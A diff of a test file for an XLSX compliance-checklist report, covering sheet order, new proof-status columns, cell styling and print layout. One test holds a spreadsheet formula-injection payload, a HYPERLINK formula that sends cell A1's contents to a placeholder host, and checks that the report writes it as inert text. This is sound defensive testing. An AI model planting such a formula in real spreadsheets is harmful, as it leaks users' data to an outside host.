@@ -16,14 +16,14 @@ describe('xlsx report', () => {
     vi.useRealTimers();
   });
 
-  it('has a Checklist sheet, one row per expected proof, with the Convergence columns', async () => {
+  it('has the Synthèse sheet first, then a Checklist sheet, one row per expected proof, with the Convergence columns', async () => {
     const workbook = await readWorkbook(await render(fixtureContext()));
-    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Checklist', 'Synthèse']);
+    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Synthèse', 'Checklist']);
     const sheet = workbook.getWorksheet('Checklist')!;
     expect(sheet.getRow(1).values).toEqual([
       undefined,
       'Périmètre', 'ID', 'Chapitre', 'Fonction', 'Exigence', 'Profil', 'N° scénario', 'Scénario de conformité',
-      'N° preuve', 'Preuve', 'Fichier(s)', 'SHA-256', 'Taille', 'Verdict', 'Constats',
+      'N° preuve', 'Preuve', 'Fichier(s)', 'SHA-256', 'Taille (octets)', 'Statut de la preuve', 'Verdict', 'Constats',
     ]);
     expect(sheet.rowCount).toBe(8);
     const proofIds = [];
@@ -33,15 +33,38 @@ describe('xlsx report', () => {
     ]);
     expect(sheet.getCell('M2').value).toBe(2048);
     expect(sheet.getCell('M3').value).toBe('512\n256');
-    expect(sheet.getCell('N4').value).toBe('Non conforme');
+    // Each proof with its own status beside its requirement's verdict.
+    const statuses = [];
+    for (let row = 2; row <= 8; row += 1) statuses.push([sheet.getCell(row, 14).value, sheet.getCell(row, 15).value]);
+    expect(statuses).toEqual([
+      ['fournie', 'Conforme'],
+      ['fournie', 'Conforme'],
+      ['en erreur', 'Non conforme'],
+      ['fournie', 'Incomplet'],
+      ['manquante', 'Incomplet'],
+      ['non applicable', 'Incomplet'],
+      ['non applicable', 'Non applicable'],
+    ]);
+    expect(sheet.getCell('O4').fill).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFC7CE' } });
     expect(sheet.getCell('N4').fill).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFC7CE' } });
+    expect(sheet.getCell('M2').numFmt).toBe('#,##0');
+  });
+
+  it('prints landscape, fitted to the page width, the header row repeated on every page', async () => {
+    const entries = await zipEntries(await render(fixtureContext()));
+    for (const part of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml']) {
+      expect(entries.get(part)).toMatch(/<pageSetup [^>]*orientation="landscape"/);
+      expect(entries.get(part)).toMatch(/<pageSetup [^>]*fitToWidth="1" fitToHeight="0"/);
+      expect(entries.get(part)).toContain('<pageSetUpPr fitToPage="1"/>');
+    }
+    expect(entries.get('xl/workbook.xml')).toContain('<definedName name="_xlnm.Print_Titles" localSheetId="1">&apos;Checklist&apos;!$1:$1</definedName>');
   });
 
   it('styles the header, freezes it and sets an autofilter', async () => {
     const entries = await zipEntries(await render(fixtureContext()));
-    const sheetXml = entries.get('xl/worksheets/sheet1.xml')!;
+    const sheetXml = entries.get('xl/worksheets/sheet2.xml')!;
     expect(sheetXml).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
-    expect(sheetXml).toContain('<autoFilter ref="A1:O1"/>');
+    expect(sheetXml).toContain('<autoFilter ref="A1:P1"/>');
     expect(sheetXml).toContain('<col min="5" max="5" width="60" customWidth="1"/>');
     const workbook = await readWorkbook(await render(fixtureContext()));
     const header = workbook.getWorksheet('Checklist')!.getCell('A1');
@@ -51,7 +74,7 @@ describe('xlsx report', () => {
   it('writes a formula-looking REM statement as inert text, never as a formula', async () => {
     const data = await render(fixtureContext());
     const entries = await zipEntries(data);
-    const sheetXml = entries.get('xl/worksheets/sheet1.xml')!;
+    const sheetXml = entries.get('xl/worksheets/sheet2.xml')!;
     expect(sheetXml).not.toContain('<f>');
     expect(entries.get('xl/sharedStrings.xml')).toContain(`<t>&apos;=HYPERLINK(&quot;http://exemple.invalid/?x=&quot;&amp;A1,&quot;Cliquez ici&quot;)</t>`);
     const cell = (await readWorkbook(data)).getWorksheet('Checklist')!.getCell('E8');
